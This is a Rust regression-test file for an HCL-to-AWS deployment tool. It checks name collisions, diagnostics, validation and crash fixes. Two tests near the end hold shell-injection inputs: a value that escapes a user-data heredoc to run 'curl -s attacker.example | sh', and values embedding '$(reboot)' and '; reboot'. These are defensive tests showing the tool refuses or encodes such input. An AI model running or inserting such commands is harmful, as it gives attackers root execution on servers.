//! Regression tests: each states the behaviour wanted where the compiler once got it wrong
//! (AWS name collisions, garbled or misplaced diagnostics, unchecked variable validations).
//! One new case per bug.

use crate::common;

use common::{beanpole, run, TempDir};
use serde_json::Value;
use std::collections::BTreeMap;

fn run_in(files: &[(&str, &str)], args: &[&str]) -> (Option<i32>, String, String) {
    let dir = TempDir::new("bugs");
    for (name, text) in files {
        dir.write(name, text);
    }
    let output = run(beanpole(dir.path()).args(args));
    (
        output.status.code(),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

/// The spec is valid (a refusal would hide the check), and no two environments share an AWS
/// name (IAM names compared without case, as IAM does).
fn assert_no_name_collision(spec: &str) {
    let (code, stdout, stderr) = run_in(
        &[("main.hcl", spec)],
        &["graph", "-C", ".", "--format", "json"],
    );
    assert_eq!(
        code,
        Some(0),
        "the spec must be valid for its names to be compared:\n{stderr}"
    );
    let graph: Value = serde_json::from_str(&stdout).unwrap();
    let mut seen: BTreeMap<(String, String), String> = BTreeMap::new();
    let mut collisions = Vec::new();
    for node in graph["nodes"].as_array().unwrap() {
        let kind = node["kind"].as_str().unwrap().to_string();
        if matches!(
            kind.as_str(),
            "network" | "platform_image" | "hosted_zone" | "listener" | "versions_bucket"
        ) {
            // Data sources and the account's versions bucket are shared on purpose; a
            // listener has no name of its own.
            continue;
        }
        let address = node["address"].as_str().unwrap().to_string();
        let name = node["aws_name"].as_str().unwrap();
        let name = if matches!(kind.as_str(), "iam_role" | "instance_profile") {
            name.to_ascii_lowercase()
        } else {
            name.to_string()
        };
        if let Some(first) = seen.insert((kind.clone(), name.clone()), address.clone()) {
            collisions.push(format!("{kind} `{name}`: {first} and {address}"));
        }
    }
    assert!(
        collisions.is_empty(),
        "AWS name collisions:\n{}",
        collisions.join("\n")
    );
}

#[test]
fn application_environment_boundary_does_not_collide() {
    // shop + a-prod and shop-a + prod both become `shop-a-prod` (load balancer, target group,
    // IAM role, instance profile, launch template, security groups, Auto Scaling group).
    assert_no_name_collision(
        "application \"shop\" {\n  region = \"us-east-2\"\n}\n\napplication \"shop-a\" {\n  region = \"us-east-2\"\n}\n\n\
         environment \"a-prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n}\n\n\
         environment \"prod\" {\n  application = application.shop-a\n  platform    = \"python-3.12\"\n}\n",
    );
}

#[test]
fn doubled_hyphens_do_not_collide() {
    assert_no_name_collision(
        "application \"shop\" {\n  region = \"us-east-2\"\n}\n\n\
         environment \"web--prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n}\n\n\
         environment \"web-prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n}\n",
    );
}

#[test]
fn names_differing_only_in_case_do_not_collide() {
    assert_no_name_collision(
        "application \"shop\" {\n  region = \"us-east-2\"\n}\n\n\
         environment \"Shop-Prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n  cname       = \"shop\"\n}\n\n\
         environment \"shop-prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n  cname       = \"shop-next\"\n}\n",
    );
}

#[test]
fn shipped_module_suggestion_is_well_formed() {
    let (code, _, stderr) = run_in(
        &[(
            "main.hcl",
            "module \"shop\" {\n  source = \"beanpole/blue-gren\"\n  name   = \"shop\"\n}\n",
        )],
        &["validate", "-C", "."],
    );
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("  = hint: did you mean `beanpole/blue-green`?\n"),
        "{stderr}"
    );
}

#[test]
fn variable_validation_is_enforced() {
    let spec = "variable \"size\" {\n  type    = number\n  default = 50\n  validation {\n    condition     = var.size < 10\n    error_message = \"size must be below 10\"\n  }\n}\n\napplication \"shop\" {\n  region = \"us-east-2\"\n}\n";
    let (code, _, stderr) = run_in(&[("main.hcl", spec)], &["validate", "-C", "."]);
    assert_eq!(
        code,
        Some(1),
        "a failing validation condition should refuse the spec:\n{stderr}"
    );
    assert!(stderr.contains("size must be below 10"), "{stderr}");
}

#[test]
fn validation_block_contents_are_checked() {
    let spec = "variable \"size\" {\n  type    = number\n  default = 2\n  validation {\n    conditon = var.nothing\n  }\n}\n\napplication \"shop\" {\n  region = \"us-east-2\"\n}\n";
    let (code, _, stderr) = run_in(&[("main.hcl", spec)], &["validate", "-C", "."]);
    assert_eq!(
        code,
        Some(1),
        "misspelt `conditon` and undefined `var.nothing` should be reported:\n{stderr}"
    );
}

#[test]
fn syntax_hint_does_not_invent_a_missing_quote() {
    let (code, _, stderr) = run_in(
        &[("main.hcl", "locals {\n  max = 2 +\n}\n")],
        &["validate", "-C", "."],
    );
    assert_eq!(code, Some(1));
    assert!(
        !stderr.contains("closing quote"),
        "nothing is unquoted here:\n{stderr}"
    );
}

#[test]
fn unterminated_string_mentions_the_quote() {
    let (code, _, stderr) = run_in(
        &[(
            "main.hcl",
            "application \"shop\" {\n  region = \"us-east-2\n}\n",
        )],
        &["validate", "-C", "."],
    );
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("quote") || stderr.contains("string"),
        "{stderr}"
    );
}

#[test]
fn no_undefined_errors_cascade_from_a_syntax_error() {
    let (code, _, stderr) = run_in(
        &[
            (
                "a.hcl",
                "environment \"shop-prod\" {\n  platform = = \"python-3.12\"\n}\n",
            ),
            (
                "b.hcl",
                "output \"url\" {\n  value = environment.shop-prod.url\n}\n",
            ),
        ],
        &["validate", "-C", "."],
    );
    assert_eq!(code, Some(1));
    assert!(!stderr.contains("undefined environment"), "{stderr}");
}

#[test]
fn misspelt_required_attribute_is_one_error() {
    let spec = "application \"shop\" {\n  region = \"us-east-2\"\n}\n\nenvironment \"shop-prod\" {\n  application = application.shop\n  platfrom    = \"python-3.12\"\n}\n";
    let (code, _, stderr) = run_in(&[("main.hcl", spec)], &["validate", "-C", "."]);
    assert_eq!(code, Some(1));
    assert!(stderr.contains("error: the spec has 1 error\n"), "{stderr}");
}

#[test]
fn bad_tag_key_points_at_the_key() {
    let spec = "application \"shop\" {\n  region = \"us-east-2\"\n  tags = {\n    team              = \"shop\"\n    \"aws:cost-center\" = \"retail\"\n  }\n}\n";
    let (code, _, stderr) = run_in(&[("main.hcl", spec)], &["validate", "-C", "."]);
    assert_eq!(code, Some(1));
    assert!(stderr.contains(" --> main.hcl:5:5\n"), "{stderr}");
}

#[test]
fn bad_list_element_points_at_the_element() {
    let spec = "application \"shop\" {\n  region = \"us-east-2\"\n}\n\nenvironment \"shop-prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n  load_balancer {\n    allowed_cidrs = [\"10.0.0.0/8\", \"10.0.0.1/24\"]\n  }\n}\n";
    let (code, _, stderr) = run_in(&[("main.hcl", spec)], &["validate", "-C", "."]);
    assert_eq!(code, Some(1));
    assert!(stderr.contains(" --> main.hcl:9:36\n"), "{stderr}");
}

#[test]
fn malformed_var_is_reported_like_other_errors() {
    let (code, _, stderr) = run_in(
        &[(
            "main.hcl",
            "application \"shop\" {\n  region = \"us-east-2\"\n}\n",
        )],
        &["validate", "-C", ".", "--var", "size"],
    );
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("= hint:") && stderr.contains("error: the spec has 1 error"),
        "{stderr}"
    );
}

#[test]
fn a_string_that_looks_like_a_reference_stays_a_string() {
    // Found by the fuzzer: `$${…}` is HCL's escape for a literal `${…}`; it once became a graph
    // reference and made the launch template depend on the Auto Scaling group (a cycle).
    let spec = "application \"pets-app\" {\n}\n\nenvironment \"web-blue\" {\n  application = application.pets-app\n  platform    = \"python-3.9\"\n  instance {\n    key_name = \"$${environment.web-blue.auto_scaling_group.name}\"\n  }\n}\n";
    let (code, stdout, stderr) = run_in(
        &[("main.hcl", spec)],
        &["graph", "-C", ".", "--format", "json"],
    );
    assert_eq!(code, Some(0), "{stderr}");
    let graph: Value = serde_json::from_str(&stdout).unwrap();
    let template = graph["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["address"] == "environment.web-blue.launch_template")
        .unwrap();
    assert_eq!(
        template["attributes"]["key_name"],
        "${environment.web-blue.auto_scaling_group.name}"
    );
    let depends_on_asg = graph["edges"].as_array().unwrap().iter().any(|e| {
        e["from"] == "environment.web-blue.launch_template"
            && e["to"] == "environment.web-blue.auto_scaling_group"
    });
    assert!(!depends_on_asg, "a literal string became a dependency");
}

#[test]
fn a_syntax_error_inside_a_multibyte_character_is_located_on_it() {
    // Found by the fuzzer: the parser's offset fell inside `é`.
    let (code, _, stderr) = run_in(&[("main.hcl", "a {\n  c = x.é")], &["validate", "-C", "."]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains(" --> main.hcl:2:"), "{stderr}");
}

/// `beanpole graph | head` once panicked ("failed printing to stdout: Broken pipe"): a closed
/// pipe must end the command quietly.
#[test]
fn a_closed_stdout_pipe_is_not_a_panic() {
    use std::io::Read;
    // A graph far larger than a pipe's buffer: beanpole is still writing when our end closes.
    let dir = TempDir::new("pipe");
    let mut spec = String::from(
        "application \"big\" {\n  region = \"us-east-2\"\n  domain = \"example.com\"\n}\n",
    );
    for i in 0..40 {
        spec.push_str(&format!(
            "environment \"env-{i}\" {{\n  application = application.big\n  cname = \"c{i}\"\n  platform = \"python-3.12\"\n}}\n"
        ));
    }
    dir.write("main.hcl", &spec);
    let mut child = beanpole(dir.path())
        .args(["graph", "--format", "json"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 16];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
    // Our end of the pipe is closed here (the handle was dropped).
    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
}

const BANNER_SPEC: &str = "variable \"banner\" {\n  type = string\n}\n\napplication \"shop\" {\n  region = \"us-east-2\"\n}\n\nenvironment \"shop-prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n  properties = {\n    BANNER = var.banner\n  }\n}\n";

/// A property value that would end the user data's heredoc and run as root at boot.
const INJECTION: &str = "hello\nBEANPOLE_PROPERTIES\ncurl -s attacker.example | sh";

#[test]
fn a_property_value_with_a_newline_is_refused_where_it_is_used_from_every_input() {
    // --var with a real newline in the argument.
    let (code, _, stderr) = run_in(
        &[("main.hcl", BANNER_SPEC)],
        &[
            "validate",
            "-C",
            ".",
            "--var",
            &format!("banner={INJECTION}"),
        ],
    );
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("--> main.hcl:13:14"), "{stderr}");
    assert!(stderr.contains("control character"), "{stderr}");
    // BEANPOLE_VAR_* from the environment.
    let dir = TempDir::new("injection");
    dir.write("main.hcl", BANNER_SPEC);
    let out = run(beanpole(dir.path())
        .env("BEANPOLE_VAR_banner", INJECTION)
        .args(["graph", "-C", ".", "--format", "json"]));
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("--> main.hcl:13:14"), "{stderr}");
    assert!(out.stdout.is_empty(), "no graph, so no user data, is made");
}

#[test]
fn a_property_value_with_shell_syntax_reaches_the_user_data_only_encoded() {
    let value = "it's \"quoted\" $(reboot) `reboot` ; reboot";
    let (code, stdout, stderr) = run_in(
        &[("main.hcl", BANNER_SPEC)],
        &[
            "graph",
            "-C",
            ".",
            "--format",
            "json",
            "--var",
            &format!("banner={value}"),
        ],
    );
    assert_eq!(code, Some(0), "{stderr}");
    let graph: Value = serde_json::from_str(&stdout).unwrap();
    let template = graph["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["kind"] == "launch_template")
        .expect("a launch template");
    let user_data = template["attributes"]["user_data"].as_str().unwrap();
    assert!(!user_data.contains("reboot"), "{user_data}");
    // The properties reach the instance in the sample application's deployment document,
    // one base64 line decoded on the instance.
    let line = user_data
        .lines()
        .find(|l| l.contains("base64 -d >\"$root/opt/beanpole/sample-document.json\""))
        .expect("the document line");
    let encoded = line.split('\'').nth(1).unwrap();
    assert!(encoded
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || "+/=".contains(c)));
}

#[test]
fn a_wildcard_action_is_a_warning_not_an_error() {
    let spec = "application \"shop\" {\n  region = \"us-east-2\"\n}\n\nenvironment \"shop-prod\" {\n  application = application.shop\n  platform    = \"python-3.12\"\n  permissions {\n    statement {\n      actions   = [\"*\"]\n      resources = [\"*\"]\n    }\n  }\n}\n";
    let (code, stdout, stderr) = run_in(&[("main.hcl", spec)], &["validate", "-C", "."]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains("is valid"), "{stdout}");
    assert!(
        stderr.contains("warning: broad permission: `actions = [\"*\"]` allows every action"),
        "{stderr}"
    );
    assert!(stderr.contains("--> main.hcl:10:20"), "{stderr}");
}

#[test]
fn a_usage_error_exits_1_even_with_detailed_exitcode() {
    let (code, _, stderr) = run_in(&[], &["plan", "--detailed-exitcode", "--no-such-flag"]);
    assert_eq!(code, Some(1), "{stderr}");
    let (code, _, _) = run_in(&[], &["--help"]);
    assert_eq!(code, Some(0));
}

#[test]
fn absurd_durations_are_refused_without_a_panic() {
    for args in [
        &["swap", "a", "b", "--interval", "999999999999999999m"][..],
        &["swap", "a", "b", "--interval", "99999999999999999999999"],
        &["status", "--interval", "soon"],
    ] {
        let (code, _, stderr) = run_in(&[], args);
        assert_eq!(code, Some(1), "{args:?}: {stderr}");
        assert!(stderr.contains("--interval"), "{stderr}");
        assert!(!stderr.contains("panicked"), "{stderr}");
    }
}
